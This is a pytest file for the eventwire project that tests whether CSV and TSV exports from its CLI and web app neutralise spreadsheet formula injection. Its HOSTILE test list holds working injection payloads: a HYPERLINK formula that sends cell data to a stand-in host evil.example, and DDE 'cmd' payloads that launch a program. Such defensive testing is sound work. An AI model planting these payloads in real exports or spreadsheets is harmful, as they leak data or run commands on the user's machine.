"""No exported CSV/TSV cell begins with a character a spreadsheet runs as a formula (OWASP)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from helpers import sample_analysis

from eventwire.cli import main
from eventwire.formats import csvsafe
from eventwire.store import Store

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


@pytest.mark.parametrize("value", HOSTILE)
def test_formats_csvsafe_cell_prefixes_formula_text(value):
    assert csvsafe.cell(value) == "'" + value.replace("\r", "\n")


@pytest.mark.parametrize("value", ["-7.2", "+3", "-10", 5, -1.5, None, "Baghdad", "", "a=b"])
def test_formats_csvsafe_cell_keeps_numbers_and_plain_text(value):
    assert csvsafe.cell(value) == value


def _hostile_db(path: Path, value: str) -> Path:
    analysis = sample_analysis("h1")
    analysis.entities[0].name = value
    analysis.article.title = value
    analysis.article.source = value
    analysis.article.url = value
    assert analysis.events[0].location is not None
    analysis.events[0].location.name = value
    with Store(path) as store:
        store.write([analysis])
    return path


def _assert_safe(text: str, delimiter: str) -> int:
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
    for c in cells:
        assert not c.startswith(csvsafe.FORMULA_STARTS) or _NUMBER.fullmatch(c), c
    return sum(c.startswith("'") for c in cells)


@pytest.mark.parametrize("value", HOSTILE)
def test_formats_csv_injection_cli_gdelt_export_is_neutralised(tmp_path, capsys, value):
    db = _hostile_db(tmp_path / "h.duckdb", value)
    out = tmp_path / "e.tsv"
    assert main(["export", "--db", str(db), "--format", "gdelt-csv", "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    assert _assert_safe(text, "\t") >= 3
    assert all(len(line.split("\t")) == 61 for line in text.splitlines())
    assert main(["events", "--db", str(db), "--format", "gdelt-csv", "--header"]) == 0
    assert _assert_safe(capsys.readouterr().out, "\t") >= 3


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("gdelt-csv", "\t")])
def test_formats_csv_injection_web_export_is_neutralised(tmp_path, value, fmt, delimiter):
    pytest.importorskip("fastapi")
    from fastapi.testclient import TestClient

    from eventwire.web import create_app

    db = _hostile_db(tmp_path / "h.duckdb", value)
    client = TestClient(create_app(db), base_url="http://localhost")
    r = client.get(f"/events/export?format={fmt}&header=true")
    assert r.status_code == 200
    assert _assert_safe(r.text, delimiter) >= 2
